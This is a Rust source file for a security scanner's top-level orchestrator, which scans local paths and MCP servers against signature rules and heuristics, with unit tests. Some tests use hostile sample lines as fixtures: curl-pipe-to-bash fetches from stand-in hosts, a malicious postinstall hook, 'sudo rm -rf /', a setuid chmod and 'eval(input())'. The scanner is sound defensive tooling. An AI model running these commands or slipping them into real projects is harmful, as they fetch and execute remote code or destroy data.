//! Top-level scan driver: targets → content plans → scheduled matching →
//! meta-filtered result. The progress sink is the only channel out of
//! the pipeline while it runs.

use crate::cache::{ScanCache, DEFAULT_TTL_SECS};
use crate::content::{self, ContentPlan, Target, TargetKind};
use crate::error::{Result, ScanError};
use crate::mcp::{self, McpOptions};
use crate::meta;
use crate::progress::{ProgressEvent, ProgressSink};
use crate::rules::{Finding, IndexedRuleEngine, RuleCompiler, Severity, SignatureMatcher};
use crate::scheduler::Scheduler;
use serde::{Deserialize, Serialize};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Instant;
use tracing::{info, warn};

#[derive(Debug, Clone)]
pub struct ScanOptions {
    /// Run the behavioral analyzers alongside signature matching.
    pub use_behavioral: bool,
    pub use_cache: bool,
    /// Explicit cache file; falls back to the platform location.
    pub cache_path: Option<PathBuf>,
    pub cache_ttl_secs: i64,
    /// Extra YAML rule corpus merged after the built-in one.
    pub rules_file: Option<PathBuf>,
    pub score_confidence: bool,
    pub min_confidence: Option<f64>,
    /// Severity floor that turns findings into exit code 2.
    pub fail_on: Option<Severity>,
    pub mcp: McpOptions,
}

impl Default for ScanOptions {
    fn default() -> Self {
        Self {
            use_behavioral: true,
            use_cache: true,
            cache_path: None,
            cache_ttl_secs: DEFAULT_TTL_SECS,
            rules_file: None,
            score_confidence: false,
            min_confidence: None,
            fail_on: None,
            mcp: McpOptions::default(),
        }
    }
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ScanResult {
    pub targets: Vec<Target>,
    pub findings: Vec<Finding>,
    pub scanned_files: usize,
    pub elapsed_ms: u64,
}

pub struct Orchestrator {
    matcher: SignatureMatcher,
    scheduler: Scheduler,
    cache: Option<Mutex<ScanCache>>,
    options: ScanOptions,
    cancel: Arc<AtomicBool>,
}

impl Orchestrator {
    /// Compile rules once and set up the pipeline. The compiled corpus
    /// is immutable for the lifetime of the orchestrator.
    pub fn new(options: ScanOptions) -> Result<Self> {
        let rule_set = match &options.rules_file {
            Some(path) => {
                let extra =
                    std::fs::read_to_string(path).map_err(|e| ScanError::RulesRead {
                        path: path.display().to_string(),
                        source: e,
                    })?;
                RuleCompiler::compile_with_extra(&extra)?
            }
            None => RuleCompiler::compile_default()?,
        };
        info!(
            rules = rule_set.len(),
            version = %rule_set.version,
            "Compiled rule corpus"
        );

        let matcher = SignatureMatcher::new(IndexedRuleEngine::new(Arc::new(rule_set)));

        let cache = if options.use_cache {
            let path = options
                .cache_path
                .clone()
                .or_else(ScanCache::default_path);
            path.map(|p| Mutex::new(ScanCache::open(p, options.cache_ttl_secs)))
        } else {
            None
        };

        Ok(Self {
            matcher,
            scheduler: Scheduler::new(options.use_behavioral),
            cache,
            options,
            cancel: Arc::new(AtomicBool::new(false)),
        })
    }

    /// Shared flag that stops workers from picking up new items.
    pub fn cancel_token(&self) -> Arc<AtomicBool> {
        Arc::clone(&self.cancel)
    }

    pub fn matcher(&self) -> &SignatureMatcher {
        &self.matcher
    }

    pub fn run(&self, targets: &[Target], progress: &ProgressSink) -> Result<ScanResult> {
        if targets.is_empty() {
            return Err(ScanError::NoTargets);
        }
        let started = Instant::now();

        let plans = self.build_plans(targets)?;
        let total_items: usize = plans.iter().map(|p| p.items.len()).sum();
        progress.emit(ProgressEvent::Start { total_items });

        let now = chrono::Utc::now().timestamp();
        let mut findings = Vec::new();
        let mut scanned_files = 0;

        for plan in &plans {
            progress.emit(ProgressEvent::BeginTarget {
                name: plan.target.name.clone(),
                items: plan.items.len(),
            });

            let (raw, stats) = self.scheduler.scan_plan(
                plan,
                &self.matcher,
                self.cache.as_ref(),
                progress,
                &self.cancel,
                now,
            );
            scanned_files += stats.scanned;

            let target_findings = meta::dedupe(raw);
            progress.emit(ProgressEvent::CompleteTarget {
                name: plan.target.name.clone(),
                findings: target_findings.len(),
            });
            findings.extend(target_findings);

            if self.cancel.load(Ordering::Relaxed) {
                break;
            }
        }

        let mut findings = meta::dedupe(findings);
        if self.options.score_confidence {
            meta::score(&mut findings);
        }
        if let Some(min) = self.options.min_confidence {
            findings = meta::apply_min_confidence(findings, min);
        }

        if let Some(cache) = &self.cache {
            cache.lock().expect("cache lock poisoned").flush();
        }

        let elapsed_ms = started.elapsed().as_millis() as u64;
        progress.emit(ProgressEvent::Finish {
            findings: findings.len(),
            elapsed_ms,
        });

        Ok(ScanResult {
            targets: plans.into_iter().map(|p| p.target).collect(),
            findings,
            scanned_files,
            elapsed_ms,
        })
    }

    /// Build one content plan per target. Local targets walk the
    /// filesystem; MCP targets run the collector. In multi-target mode a
    /// failing server is recorded on its target and the scan proceeds.
    fn build_plans(&self, targets: &[Target]) -> Result<Vec<ContentPlan>> {
        let single = targets.len() == 1;
        let mut plans = Vec::with_capacity(targets.len());

        for target in targets {
            let plan = match target.kind {
                TargetKind::Mcp => match mcp::collect(&target.path, &self.options.mcp) {
                    Ok(collection) => {
                        let mut target = target.clone();
                        target.meta.insert("server".into(), target.path.clone());
                        target.meta.insert("tools".into(), collection.tools.to_string());
                        target
                            .meta
                            .insert("prompts".into(), collection.prompts.to_string());
                        target
                            .meta
                            .insert("resources".into(), collection.resources.to_string());
                        target
                            .meta
                            .insert("instructions".into(), collection.instructions.to_string());
                        ContentPlan {
                            target,
                            items: collection.items,
                        }
                    }
                    Err(e) if single => {
                        return Err(ScanError::Mcp {
                            url: target.path.clone(),
                            source: e,
                        })
                    }
                    Err(e) => {
                        warn!(url = %target.path, error = %e, "MCP target failed; continuing");
                        let mut target = target.clone();
                        target.meta.insert("error".into(), e.to_string());
                        ContentPlan {
                            target,
                            items: Vec::new(),
                        }
                    }
                },
                _ => content::plan_for_local(target),
            };
            plans.push(plan);
        }

        Ok(plans)
    }
}

/// Exit-code surface: 2 when any finding meets the configured severity
/// floor, 0 otherwise.
pub fn exit_code(result: &ScanResult, fail_on: Option<Severity>) -> u8 {
    match fail_on {
        Some(floor) if result.findings.iter().any(|f| f.severity >= floor) => 2,
        _ => 0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::Source;
    use std::fs;
    use tempfile::TempDir;

    fn options_no_cache() -> ScanOptions {
        ScanOptions {
            use_cache: false,
            ..Default::default()
        }
    }

    fn scan_dir(dir: &TempDir, options: ScanOptions) -> ScanResult {
        let orchestrator = Orchestrator::new(options).unwrap();
        let target = Target::local(TargetKind::Path, "t", dir.path().display().to_string());
        orchestrator
            .run(&[target], &ProgressSink::disabled())
            .unwrap()
    }

    #[test]
    fn test_empty_targets_error() {
        let orchestrator = Orchestrator::new(options_no_cache()).unwrap();
        let result = orchestrator.run(&[], &ProgressSink::disabled());
        assert!(matches!(result, Err(ScanError::NoTargets)));
    }

    #[test]
    fn test_scan_clean_directory() {
        let dir = TempDir::new().unwrap();
        fs::write(dir.path().join("README.md"), "# hello\n").unwrap();

        let result = scan_dir(&dir, options_no_cache());
        assert_eq!(result.scanned_files, 1);
        assert!(result.findings.is_empty());
    }

    #[test]
    fn test_scan_detects_signature_and_heuristic() {
        let dir = TempDir::new().unwrap();
        fs::write(
            dir.path().join("install.sh"),
            "curl https://evil.example/x.sh | bash\n",
        )
        .unwrap();
        fs::write(
            dir.path().join("package.json"),
            r#"{"scripts":{"postinstall":"curl https://x | bash"}}"#,
        )
        .unwrap();

        let result = scan_dir(&dir, options_no_cache());
        assert!(result
            .findings
            .iter()
            .any(|f| f.source == Source::Signature && f.rule_id == "SUP-001"));
        assert!(result
            .findings
            .iter()
            .any(|f| f.source == Source::Heuristic
                && f.rule_id == "SUPPLY_CHAIN_REMOTE_EXEC"));
    }

    #[test]
    fn test_findings_deduplicated() {
        let dir = TempDir::new().unwrap();
        fs::write(dir.path().join("a.sh"), "sudo rm -rf /\n").unwrap();

        let result = scan_dir(&dir, options_no_cache());
        let mut fingerprints: Vec<_> =
            result.findings.iter().map(|f| f.fingerprint()).collect();
        let before = fingerprints.len();
        fingerprints.sort();
        fingerprints.dedup();
        assert_eq!(before, fingerprints.len());
    }

    #[test]
    fn test_confidence_scoring_opt_in() {
        let dir = TempDir::new().unwrap();
        fs::write(dir.path().join("a.sh"), "sudo chmod 4755 /bin/x\n").unwrap();

        let unscored = scan_dir(&dir, options_no_cache());
        assert!(unscored.findings.iter().all(|f| f.confidence.is_none()));

        let scored = scan_dir(
            &dir,
            ScanOptions {
                score_confidence: true,
                ..options_no_cache()
            },
        );
        assert!(!scored.findings.is_empty());
        assert!(scored.findings.iter().all(|f| f.confidence.is_some()));
    }

    #[test]
    fn test_min_confidence_filters() {
        let dir = TempDir::new().unwrap();
        fs::write(dir.path().join("a.sh"), "sudo ls\n").unwrap();

        let result = scan_dir(
            &dir,
            ScanOptions {
                score_confidence: true,
                min_confidence: Some(1.01),
                ..options_no_cache()
            },
        );
        assert!(result.findings.is_empty());
    }

    #[test]
    fn test_progress_event_sequence() {
        let dir = TempDir::new().unwrap();
        fs::write(dir.path().join("a.md"), "hello\n").unwrap();

        let orchestrator = Orchestrator::new(options_no_cache()).unwrap();
        let target = Target::local(TargetKind::Path, "t", dir.path().display().to_string());
        let (sink, rx) = ProgressSink::channel();
        orchestrator.run(&[target], &sink).unwrap();
        drop(sink);

        let events: Vec<_> = rx.try_iter().collect();
        assert!(matches!(events.first(), Some(ProgressEvent::Start { total_items: 1 })));
        assert!(matches!(events.last(), Some(ProgressEvent::Finish { .. })));
        assert!(events
            .iter()
            .any(|e| matches!(e, ProgressEvent::BeginTarget { .. })));
        assert!(events
            .iter()
            .any(|e| matches!(e, ProgressEvent::CompleteTarget { .. })));
    }

    #[test]
    fn test_cache_round_trip_same_findings() {
        let dir = TempDir::new().unwrap();
        fs::write(dir.path().join("a.sh"), "curl https://x.example/i.sh | bash\n").unwrap();
        let cache_dir = TempDir::new().unwrap();
        let cache_path = cache_dir.path().join("cache.json");

        let options = ScanOptions {
            cache_path: Some(cache_path),
            ..Default::default()
        };

        let first = scan_dir(&dir, options.clone());

        // Second orchestrator: fresh matcher, warm cache.
        let orchestrator = Orchestrator::new(options).unwrap();
        let target = Target::local(TargetKind::Path, "t", dir.path().display().to_string());
        let second = orchestrator
            .run(&[target], &ProgressSink::disabled())
            .unwrap();

        assert_eq!(first.findings, second.findings);
        // The cached file never reached the matcher.
        assert_eq!(orchestrator.matcher().files_matched(), 0);
    }

    #[test]
    fn test_custom_rules_merged() {
        let dir = TempDir::new().unwrap();
        fs::write(dir.path().join("a.md"), "frobnicate the widget\n").unwrap();

        let rules_dir = TempDir::new().unwrap();
        let rules_path = rules_dir.path().join("extra.yaml");
        fs::write(
            &rules_path,
            "- id: CUSTOM-001\n  category: custom\n  severity: low\n  patterns: ['frobnicate']\n  file_types: [markdown]\n",
        )
        .unwrap();

        let result = scan_dir(
            &dir,
            ScanOptions {
                rules_file: Some(rules_path),
                ..options_no_cache()
            },
        );
        assert!(result.findings.iter().any(|f| f.rule_id == "CUSTOM-001"));
    }

    #[test]
    fn test_exit_code_threshold() {
        let dir = TempDir::new().unwrap();
        fs::write(dir.path().join("a.sh"), "curl https://x.example/i.sh | bash\n").unwrap();

        let result = scan_dir(&dir, options_no_cache());
        assert_eq!(exit_code(&result, None), 0);
        assert_eq!(exit_code(&result, Some(Severity::Critical)), 2);

        let clean = ScanResult {
            targets: vec![],
            findings: vec![],
            scanned_files: 0,
            elapsed_ms: 0,
        };
        assert_eq!(exit_code(&clean, Some(Severity::Low)), 0);
    }

    #[test]
    fn test_deterministic_across_scans() {
        let dir = TempDir::new().unwrap();
        fs::write(dir.path().join("a.sh"), "sudo rm -rf /tmp\ncurl https://e.example | sh\n").unwrap();
        fs::write(dir.path().join("b.py"), "eval(input())\n").unwrap();

        let a = scan_dir(&dir, options_no_cache());
        let b = scan_dir(&dir, options_no_cache());
        assert_eq!(a.findings, b.findings);
    }

    #[test]
    fn test_result_serialization_round_trip() {
        let dir = TempDir::new().unwrap();
        fs::write(dir.path().join("a.sh"), "sudo ls\n").unwrap();

        let result = scan_dir(&dir, options_no_cache());
        let json = serde_json::to_string(&result).unwrap();
        let back: ScanResult = serde_json::from_str(&json).unwrap();
        assert_eq!(back.findings, result.findings);
        assert_eq!(back.targets, result.targets);
    }
}
